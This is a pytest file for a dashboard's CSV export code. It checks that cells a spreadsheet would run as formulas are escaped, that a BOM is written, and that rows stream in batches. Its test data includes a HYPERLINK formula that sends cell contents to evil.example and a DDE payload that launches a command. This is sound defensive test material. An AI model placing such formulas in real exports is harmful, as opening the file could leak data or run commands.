"""CSV exports: formula-safe cells, BOM, streaming in batches."""

from __future__ import annotations

import csv
import io

import pytest

from dashboard.failures import exports
from dashboard.failures.exports import BOM, csv_chunks, safe_cell


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
        "+1",
        "-2",
        "@SUM(A1:A9)",
        "\tTAB",
        "\rCR",
        "  =indented",
        "\uff1dfull-width",
    ],
)
def test_cells_a_spreadsheet_would_run_are_neutralised(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["acme", "Customer 'x' not found", "", " plain", "1-2", "a=b"])
def test_other_cells_pass_unchanged(value):
    assert safe_cell(value) == value


def test_numbers_and_none_pass_unchanged():
    assert safe_cell(-5) == -5
    assert safe_cell(None) is None


def test_the_file_starts_with_a_bom_and_reads_back_with_csv():
    rows = [[1, "acme", "=cmd|' /C calc'!A0"], [2, None, 'line one\r\nline "two"']]
    data = b"".join(csv_chunks(["row", "identifier", "reason"], rows)).decode("utf-8")
    assert data.startswith(BOM)
    read = list(csv.reader(io.StringIO(data[len(BOM) :], newline="")))
    assert read == [
        ["row", "identifier", "reason"],
        ["1", "acme", "'=cmd|' /C calc'!A0"],
        ["2", "", 'line one\r\nline "two"'],
    ]


def test_rows_are_streamed_in_batches(monkeypatch):
    monkeypatch.setattr(exports, "BATCH_ROWS", 10)
    consumed = []

    def rows():
        for n in range(35):
            consumed.append(n)
            yield [n]

    chunks = csv_chunks(["n"], rows())
    first = next(chunks)
    # The first chunk goes out after ten rows, before the rest are even made.
    assert len(consumed) == 10
    assert first.decode().count("\r\n") == 11
    assert len(list(chunks)) == 3
